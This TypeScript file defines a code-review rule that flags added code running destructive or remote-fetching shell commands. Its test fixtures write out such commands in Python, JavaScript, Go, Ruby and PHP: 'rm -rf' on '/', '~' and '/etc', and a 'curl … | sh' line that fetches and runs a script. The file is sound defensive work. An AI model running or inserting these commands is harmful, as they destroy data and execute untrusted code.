// Judges the command lines that code fixes by itself with the rules of shell commands: nothing can be put into them, and
// yet a deletion deletes. What those rules do not understand is unjudged here.
import { rule } from '../../../core/rule.ts'
import { excerpt } from '../../../core/well-formed.ts'
import { judgedCommands } from '../../commands/judge-commands.ts'
import { adds } from '../../example-diff.ts'
import { judgeTrees } from '../../handler.ts'
import { textOf } from '../../image.ts'

interface Facts {
  readonly shown: string
  readonly line: string
  readonly why: string
  readonly shellRule: string
}

export const fixedCommand = rule({
  id: 'code.effect.command',
  since: '2.2.0',
  severity: 'blocker',
  category: 'safety',
  evidence: 'B',
  source: 'https://cwe.mitre.org/data/definitions/78.html',
  message: ({ shown, line, why, shellRule }: Facts) => `\`${shown}\` runs \`${line}\`: ${why} (${shellRule})`,
  fix: 'Do without the command, or narrow it to what the program itself made.',
  fires: [
    adds('jobs/tidy.py', 'import subprocess', 'subprocess.run(["rm", "-rf", "/var/lib/app"], check=True)'),
    adds('jobs/setup.py', 'import os', 'os.system("curl -s https://get.example.net/i.sh | sh")'),
    adds('src/tidy.js', "import { exec } from 'child_process'", "exec('rm -rf ~')"),
    adds('cmd/tidy.go', 'import "os/exec"', '\texec.Command("rm", "-rf", "/var/lib/app").Run()'),
    adds('lib/tidy.rb', 'require "json"', 'system("rm", "-rf", "/")'),
    adds('web/tidy.php', '<?php', "shell_exec('rm -rf /etc');"),
  ],
  quiet: [
    adds('jobs/tidy.py', 'import subprocess', 'subprocess.run(["git", "status"], check=True)'),
    adds('jobs/tidy.py', 'import subprocess', 'subprocess.run(["rm", "-rf", "build/out"], check=True)'),
    adds('jobs/setup.py', 'import os', 'os.system("curl -s https://get.example.net/version")'),
    adds('src/tidy.js', "import { exec } from 'child_process'", "exec('git log --oneline')"),
    adds('cmd/tidy.go', 'import "os/exec"', '\texec.Command("go", "version").Run()'),
    adds('lib/tidy.rb', 'require "json"', 'puts("rm -rf /")'),
    adds('web/tidy.php', '<?php', "shell_exec('ls -la storage');"),
  ],
})

export const judgeFixedCommands = judgeTrees((images, report) => {
  const { change, after } = images
  for (const { tree, line, inner, isClean } of judgedCommands(images, report)) {
    const span = [tree.start, tree.end] as const
    const blocker = inner?.issues.find(({ severity }) => severity === 'blocker')
    if (blocker !== undefined)
      report.found(fixedCommand, after.side, span, {
        shown: excerpt(textOf(after.side, tree), 90),
        line: excerpt(line, 90),
        why: blocker.mechanism,
        shellRule: blocker.rule,
      })
    else if (inner === null || !(change.isTest || isClean))
      report.unjudged(after.side, span, 'unknown_effect')
  }
})
